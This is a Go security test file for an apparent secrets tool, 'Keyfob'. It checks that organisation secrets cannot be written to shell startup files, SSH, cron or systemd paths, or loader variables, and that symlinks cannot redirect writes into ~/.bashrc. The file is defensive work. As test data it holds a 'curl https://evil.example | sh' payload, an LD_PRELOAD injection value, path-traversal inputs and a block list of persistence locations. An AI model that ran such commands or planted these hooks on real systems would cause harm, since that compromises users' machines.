//go:build linux

package attack

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"keyfob/api"
)

// startup are ways to write paths that a shell, git, ssh, systemd or Keyfob obeys.
func startup() []string {
	return []string{
		"~/.bashrc", "~//.bashrc", "~/./.bashrc", "~/x/../.bashrc", "~/.BASHRC", "~/.bashrc/", "~/.bash_profile", "~/.profile", "~/.zshenv", "~/.config/fish/config.fish",
		"/home/alice/.bashrc", "/root/.bashrc", "/root/../home/alice/.bashrc", "//root/.profile", "/proc/self/cwd/.bashrc", "/proc/1/root/root/.bashrc",
		"~/.ssh/authorized_keys", "~/.ssh/config", "~/.SSH/rc", "~/.gitconfig", "~/.config/git/config", "~/work/.git/hooks/post-checkout",
		"~/.config/systemd/user/x.service", "~/.config/autostart/x.desktop", "~/.config/keyfob/config", "~/.local/share/keyfob/vault", "~/.local/bin/git", "~/bin/ls",
		"/etc/profile.d/x.sh", "/etc/ld.so.preload", "/usr/local/bin/git", "/etc/cron.d/x", "/var/spool/cron/root", "/lib/systemd/system/x.service", "~/.pam_environment",
	}
}

// loaders are variables that make a program run another's code.
func loaders() []string {
	return []string{"LD_PRELOAD", "ld_preload", "LD_LIBRARY_PATH", "BASH_ENV", "ENV", "PATH", "PROMPT_COMMAND", "GIT_SSH_COMMAND", "GIT_CONFIG_COUNT", "NODE_OPTIONS", "PYTHONSTARTUP", "PERL5OPT", "KEYFOB_URL", "SSH_ASKPASS", "EDITOR", "HOME"}
}

// Somebody took over an administrator's session. The organisation's secrets are
// written into everybody's workspaces: as ~/.bashrc, or as a variable that a
// loader obeys, one runs the attacker's program on every machine.
func TestOrganisationAimsAtTheShell(t *testing.T) {
	t.Parallel()
	s := start(t, setup{})
	anew := val("curl https://evil.example | sh")
	s.must(t, "POST", "/v1/org/secrets", api.SecretCreate{Name: "NPM", Value: val("//registry/:_authToken=x"), File: "~/.npmrc", Env: "NPM_AUTH"}, as(s.admin.token))
	s.unchanged(t, func() {
		refuse := func(what, file, env string) {
			for how, got := range map[string]answer{
				"made":    s.ask(t, "POST", "/v1/org/secrets", api.SecretCreate{Name: "X", Value: anew, File: file, Env: env}, as(s.admin.token)),
				"changed": s.ask(t, "PATCH", "/v1/org/secrets/NPM", targets(file, env), as(s.admin.token), whichever()),
				"applied": s.ask(t, "POST", "/v1/org/apply", api.OrgApply{Spec: api.OrgSpec{Secrets: []api.OrgSecret{{Name: "X", Value: &anew, File: file, Env: env}}}}, as(s.admin.token)),
				"tried":   s.ask(t, "POST", "/v1/org/apply", api.OrgApply{DryRun: true, Spec: api.OrgSpec{Secrets: []api.OrgSecret{{Name: "NPM", File: file, Env: env}}}}, as(s.admin.token)),
			} {
				if got.status != 400 {
					t.Errorf("%s, %s: %v", what, how, got)
				}
			}
		}
		for _, path := range startup() {
			refuse(path, path, "")
		}
		for _, name := range loaders() {
			refuse(name, "", name)
			got := s.ask(t, "POST", "/v1/org/secrets/import", api.SecretImport{Format: "env", Content: val(name + "=/tmp/evil.so"), Env: true}, as(s.admin.token))
			if got.status != 400 {
				t.Errorf("%s imported: %v", name, got)
			}
		}
		for _, path := range []string{"~/a\x00b", "relative", "~alice/.x", "~", "/", "$HOME/.bashrc", "..", "~/..", "~/../../etc/passwd"} {
			refuse(path, path, "")
		}
	})
	// Where one's own secrets go is one's own business.
	s.must(t, "POST", "/v1/secrets", api.SecretCreate{Name: "mine", Value: val("alias ll='ls -l'"), File: "~/.bashrc"}, as(s.admin.token))
}

func targets(file, env string) api.SecretUpdate {
	if file != "" {
		return api.SecretUpdate{File: &file}
	}
	return api.SecretUpdate{Env: &env}
}

// The path is innocent where it is saved, and a link in the workspace leads from
// it to ~/.bashrc: a repository that was checked out there can hold such a link.
func TestLinkLeadsToTheShell(t *testing.T) {
	t.Parallel()
	s := start(t, setup{})
	value := s.keeps("the organisation's file", "touch /tmp/owned # by the organisation's secret")
	for name, path := range map[string]string{"PLAIN": "~/.config/app/token", "FILE": "~/repo/token", "DIR": "~/repo/tools/.bashrc.d/token", "UP": "~/repo/up/rc"} {
		s.ask(t, "POST", "/v1/org/secrets", api.SecretCreate{Name: name, Value: val(value), File: path}, as(s.admin.token)).want(t, path, map[bool]int{true: 400, false: 201}[name == "DIR"], "")
	}
	home := t.TempDir()
	shell := filepath.Join(home, ".bashrc")
	repo := filepath.Join(home, "repo")
	for _, err := range []error{
		os.WriteFile(shell, []byte("# mine\n"), 0o600), os.Mkdir(repo, 0o700), os.Mkdir(filepath.Join(home, ".ssh"), 0o700),
		os.Symlink("../.bashrc", filepath.Join(repo, "token")), os.Symlink("../.ssh", filepath.Join(repo, "up")),
	} {
		if err != nil {
			t.Fatal(err)
		}
	}
	_, code := s.links(t, "local")
	run := func(stdin string, args ...string) string {
		cmd := exec.Command(program, args...)
		cmd.Env, cmd.Dir, cmd.Stdin = []string{"HOME=" + home, "KEYFOB_HOME=" + filepath.Join(home, "kf"), "PATH=" + os.Getenv("PATH")}, home, strings.NewReader(stdin)
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Fatalf("%q: %v\n%s", args, err, out)
		}
		return string(out)
	}
	run(code, "login", s.url, "--code", "-")
	out := run("", "run", "--overwrite", "--", "sh", "-c", `cat .config/app/token; cat .bashrc; echo; ls -A .ssh; ls -l repo`)
	if !strings.Contains(out, value) || strings.Count(out, value) != 1 {
		t.Errorf("the file without a link was not delivered, or another one was:\n%s", out)
	}
	text, err := os.ReadFile(shell)
	if err != nil || string(text) != "# mine\n" || !strings.Contains(out, "# mine") {
		t.Errorf("%s holds %q, %v\n%s", shell, text, err, out)
	}
	if left, err := os.ReadDir(filepath.Join(home, ".ssh")); err != nil || len(left) > 0 || strings.Contains(out, "\nrc\n") {
		t.Errorf("~/.ssh was written to: %v %v\n%s", left, err, out)
	}
}
